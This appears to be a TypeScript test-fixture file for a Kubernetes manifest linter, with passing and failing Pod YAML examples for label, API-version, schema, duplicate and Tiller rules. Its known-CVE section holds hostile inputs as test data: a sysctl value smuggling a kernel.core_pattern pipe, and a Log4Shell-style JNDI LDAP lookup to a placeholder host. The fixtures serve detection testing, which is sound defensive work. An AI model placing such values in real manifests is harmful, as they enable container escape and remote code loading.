import type { Examples } from './example.ts';

const pod = (metadata: string, spec: string) => `
apiVersion: v1
kind: Pod
metadata: { ${metadata} }
spec: ${spec}
`;
const plain = '{ containers: [{ name: app, image: "registry.example.com/web:1.2.3" }] }';
const image = (name: string) => pod('name: web', `{ containers: [{ name: app, image: "${name}" }] }`);
const sysctl = (value: string) =>
  pod(
    'name: web',
    `{ securityContext: { sysctls: [{ name: kernel.shm_rmid_forced, value: "${value}" }] }, containers: [{ name: app, image: "registry.example.com/web:1.2.3" }] }`,
  );

export const objects: Examples = {
  'meta-required-labels': {
    pass: [
      {
        title: 'the label is there and well-formed',
        yaml: pod('name: web, labels: { team: payments }', plain),
        parameters: { labels: { team: '[a-z-]+' } },
      },
      {
        title: 'another kind is asked',
        yaml: pod('name: web', plain),
        parameters: { labels: { team: '.+' }, kinds: ['/Service'] },
      },
    ],
    fail: [
      {
        title: 'no labels',
        yaml: pod('name: web', plain),
        parameters: { labels: { team: '.+', app: '.+' } },
        count: 2,
      },
      {
        title: 'the value only begins well',
        yaml: pod('name: web, labels: { team: payments2 }', plain),
        parameters: { labels: { team: '[a-z-]+' } },
      },
      {
        title: 'an annotation is missing',
        yaml: pod('name: web, labels: { team: payments }', plain),
        parameters: { labels: { team: '' }, annotations: { owner: '.+@example[.]com' } },
      },
    ],
  },
  'meta-deprecated-api': {
    pass: [
      { title: 'a served version', yaml: pod('name: web', plain) },
      {
        title: 'an old version in last-applied-configuration only',
        yaml: `
apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
  annotations: { kubectl.kubernetes.io/last-applied-configuration: '{"apiVersion":"extensions/v1beta1","kind":"Deployment"}' }
spec: { selector: { matchLabels: { app: web } } }
`,
      },
      {
        title: 'still served by the version asked about',
        yaml: 'apiVersion: policy/v1beta1\nkind: PodDisruptionBudget\nmetadata: { name: web }\n',
        kubernetesVersion: '1.20',
      },
    ],
    fail: [
      {
        title: 'removed in 1.16',
        yaml: 'apiVersion: extensions/v1beta1\nkind: Deployment\nmetadata: { name: web }\n',
      },
      {
        title: 'removed in 1.25',
        yaml: 'apiVersion: policy/v1beta1\nkind: PodDisruptionBudget\nmetadata: { name: web }\n',
      },
      {
        title: 'deprecated in the version asked about',
        yaml: 'apiVersion: policy/v1beta1\nkind: PodDisruptionBudget\nmetadata: { name: web }\n',
        kubernetesVersion: '1.24',
      },
    ],
  },
  'meta-schema-valid': {
    pass: [
      { title: 'a valid pod', yaml: pod('name: web', plain) },
      {
        title: 'a kind that nobody described',
        yaml: 'apiVersion: example.com/v1\nkind: Shop\nmetadata: { name: x }\nspec: 1\n',
      },
    ],
    fail: [
      {
        title: 'a misspelled field',
        yaml: pod(
          'name: web',
          '{ hostNetwrok: true, containers: [{ name: app, image: "registry.example.com/web:1.2.3" }] }',
        ),
      },
      {
        title: 'text where a number belongs',
        yaml: `
apiVersion: apps/v1
kind: Deployment
metadata: { name: web }
spec:
  replicas: "2"
  selector: { matchLabels: { app: web } }
  template: { metadata: { labels: { app: web } }, spec: ${plain} }
`,
      },
      {
        title: 'a kind that its version does not have',
        yaml: 'apiVersion: apps/v1\nkind: Deploymnet\nmetadata: { name: web }\n',
      },
      {
        title: 'a custom resource that its CRD does not allow',
        yaml: `
apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: { name: shops.example.com }
spec:
  group: example.com
  scope: Namespaced
  names: { kind: Shop, plural: shops, singular: shop, listKind: ShopList }
  versions:
    - name: v1
      served: true
      storage: true
      schema:
        openAPIV3Schema:
          type: object
          properties: { spec: { type: object, properties: { size: { type: integer } } } }
---
apiVersion: example.com/v1
kind: Shop
metadata: { name: corner }
spec: { size: large }
`,
      },
    ],
  },
  'meta-duplicate-object': {
    pass: [
      { title: 'two names', yaml: `${pod('name: a', plain)}---${pod('name: b', plain)}` },
      {
        title: 'two namespaces',
        yaml: `${pod('name: a, namespace: dev', plain)}---${pod('name: a, namespace: prod', plain)}`,
      },
      {
        title: 'names that the API server makes',
        yaml: `${pod('generateName: a-', plain)}---${pod('generateName: a-', plain)}`,
      },
    ],
    fail: [{ title: 'one name twice', yaml: `${pod('name: a', plain)}---${pod('name: a', plain)}` }],
  },
  'meta-tiller': {
    pass: [
      { title: 'another image', yaml: image('registry.example.com/web:1.2.3') },
      { title: 'a name that only begins alike', yaml: image('registry.example.com/tiller-docs:1.0.0') },
    ],
    fail: [
      { title: 'Tiller', yaml: image('gcr.io/kubernetes-helm/tiller:v2.16.1') },
      { title: 'Tiller by digest', yaml: image('mirror.example.com:5000/helm/tiller@sha256:0000') },
    ],
  },
  'meta-known-cve-config': {
    pass: [
      { title: 'a plain sysctl', yaml: sysctl('1') },
      { title: 'a version with the fix', yaml: image('quay.io/argoproj/argocd:v2.2.4') },
      { title: 'a version that is no number', yaml: image('quay.io/argoproj/argocd:latest') },
    ],
    fail: [
      { title: 'a sysctl that carries another', yaml: sysctl('1+kernel.core_pattern=|/x') },
      { title: 'an Argo CD with CVE-2022-24348', yaml: image('quay.io/argoproj/argocd:v2.2.3') },
      {
        title: 'a JNDI lookup in the environment',
        yaml: pod(
          'name: web',
          `{ containers: [{ name: app, image: "registry.example.com/web:1.2.3", env: [{ name: AGENT, value: "$${'{'}jndi:ldap://x.example.com/a}" }] }] }`,
        ),
      },
    ],
  },
};
